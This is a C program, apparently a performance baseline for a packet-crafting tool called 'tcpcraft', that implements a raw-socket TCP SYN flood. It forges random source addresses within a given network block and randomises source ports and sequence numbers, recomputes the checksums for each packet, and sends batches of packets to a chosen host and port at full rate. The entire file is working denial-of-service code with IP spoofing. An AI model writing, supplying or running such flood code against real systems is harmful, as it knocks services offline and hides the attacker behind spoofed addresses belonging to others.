/*
 * Raw-socket SYN flood from random sources, the baseline of tcpcraft's
 * `send --flood --rand-source CIDR --rand-sport --rand-seq`: the socket
 * tcpcraft opens then (SOCK_RAW, IPPROTO_TCP, IP_HDRINCL: the IP header is
 * ours, since the kernel would write its own source), the same 40-byte
 * datagram (20-byte IPv4 header, TCP as `flood.h` builds it), BATCH
 * messages per sendmmsg(2).
 *
 *   rand_flood CIDR DST DPORT COUNT [SEED]
 *
 * Before each call every one of the BATCH datagrams is redrawn in place:
 * a source address inside CIDR, a source port in 1024..65535 and a
 * sequence number from one xorshift generator, the IPv4 header checksum
 * and the TCP checksum (its pseudo-header covers the source) updated
 * incrementally (RFC 1624), as tcpcraft's send slots are.
 */
#include "flood.h" /* first: it defines _GNU_SOURCE */

#include <errno.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#define DATAGRAM_LEN (IP_LEN + TCP_LEN)

/* xorshift32 (Marsaglia): one state word, three shifts a draw. */
static uint32_t rng_state;
static inline uint32_t xorshift32(void) {
  uint32_t x = rng_state;
  x ^= x << 13;
  x ^= x >> 17;
  x ^= x << 5;
  return rng_state = x;
}

static uint32_t get32(const uint8_t *p) {
  return (uint32_t)get16(p) << 16 | get16(p + 2);
}

static void put32(uint8_t *p, uint32_t v) {
  put16(p, v >> 16);
  put16(p + 2, v & 0xffff);
}

/* Add `~old + new` of both 16-bit halves of a 32-bit word to `sum`. */
static inline uint32_t delta32(uint32_t sum, uint32_t old, uint32_t new_) {
  return sum + (uint16_t)~(old >> 16) + (new_ >> 16) + (uint16_t)~old +
         (new_ & 0xffff);
}

/* RFC 1624 eqn. 3 for all the words whose `~old + new` sum to `delta`. */
static inline void adjust(uint8_t *check, uint32_t delta) {
  uint32_t sum = (uint16_t)~get16(check) + delta;
  put16(check, (uint16_t)~fold(sum));
}

/* Draw a datagram's source, source port and sequence number in place. */
static inline void draw(uint8_t *ip, uint32_t net, uint32_t hostmask) {
  uint8_t *tcp = ip + IP_LEN;
  uint32_t old_src = get32(ip + 12);
  uint32_t src = (net & ~hostmask) | (xorshift32() & hostmask);
  uint16_t old_port = get16(tcp);
  uint16_t port = (uint16_t)(1024 + xorshift32() % 64512);
  uint32_t old_seq = get32(tcp + 4);
  uint32_t seq = xorshift32();
  put32(ip + 12, src);
  put16(tcp, port);
  put32(tcp + 4, seq);
  uint32_t address = delta32(0, old_src, src);
  adjust(ip + 10, address);
  uint32_t segment = address + (uint16_t)~old_port + port;
  adjust(tcp + 16, delta32(segment, old_seq, seq));
}

int main(int argc, char **argv) {
  if (argc < 5) {
    fprintf(stderr, "usage: rand_flood CIDR DST DPORT COUNT [SEED]\n");
    return 2;
  }
  char block[64];
  snprintf(block, sizeof block, "%s", argv[1]);
  char *slash = strchr(block, '/');
  int prefix = slash ? atoi(slash + 1) : 32;
  if (slash) *slash = 0;
  struct in_addr net_addr, dst;
  if (!inet_pton(AF_INET, block, &net_addr) || !inet_pton(AF_INET, argv[2], &dst) ||
      prefix < 0 || prefix > 32) {
    fprintf(stderr, "rand_flood: bad block or address\n");
    return 2;
  }
  uint16_t dport = (uint16_t)atoi(argv[3]);
  unsigned long count = strtoul(argv[4], NULL, 10);
  rng_state = argc > 5 ? (uint32_t)strtoul(argv[5], NULL, 10) : 1;
  if (rng_state == 0) rng_state = 1;
  uint32_t net = ntohl(net_addr.s_addr);
  uint32_t hostmask = prefix == 32 ? 0 : 0xffffffffu >> prefix;

  int fd = socket(AF_INET, SOCK_RAW, IPPROTO_TCP);
  if (fd < 0) {
    perror("rand_flood: socket");
    return 1;
  }
  int on = 1;
  if (setsockopt(fd, IPPROTO_IP, IP_HDRINCL, &on, sizeof on) < 0) {
    perror("rand_flood: IP_HDRINCL");
    return 1;
  }
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr = dst};

  /* One datagram per message: an IPv4 header (TTL 64, ID 1, as tcpcraft's
   * template) and the SYN, both checksummed, then drawn. */
  static uint8_t packets[BATCH][DATAGRAM_LEN];
  struct iovec iov[BATCH];
  struct mmsghdr msgs[BATCH];
  memset(msgs, 0, sizeof msgs);
  for (int i = 0; i < BATCH; i++) {
    uint8_t *ip = packets[i];
    memset(ip, 0, IP_LEN);
    ip[0] = 0x45;
    put16(ip + 2, DATAGRAM_LEN);
    put16(ip + 4, 1);
    ip[8] = 64;
    ip[9] = IPPROTO_TCP;
    memcpy(ip + 12, &net_addr, 4);
    memcpy(ip + 16, &dst, 4);
    put16(ip + 10, (uint16_t)~fold(sum_words(ip, IP_LEN, 0)));
    build_syn(ip + IP_LEN, net_addr, dst, 40000, dport, 1);
    draw(ip, net, hostmask);
    iov[i].iov_base = ip;
    iov[i].iov_len = DATAGRAM_LEN;
    msgs[i].msg_hdr.msg_name = &to;
    msgs[i].msg_hdr.msg_namelen = sizeof to;
    msgs[i].msg_hdr.msg_iov = &iov[i];
    msgs[i].msg_hdr.msg_iovlen = 1;
  }

  double start = now_seconds();
  unsigned long sent = 0;
  while (sent < count) {
    unsigned int n = count - sent < BATCH ? (unsigned int)(count - sent) : BATCH;
    int done = sendmmsg(fd, msgs, n, 0);
    if (done < 0) {
      if (errno == ENOBUFS || errno == EINTR) continue;
      perror("rand_flood: sendmmsg");
      return 1;
    }
    sent += (unsigned long)done;
    /* Redraw the datagrams just sent (the rest go out as drawn). */
    for (int i = 0; i < done; i++) draw(packets[i], net, hostmask);
  }
  report(sent, start);
  close(fd);
  return 0;
}
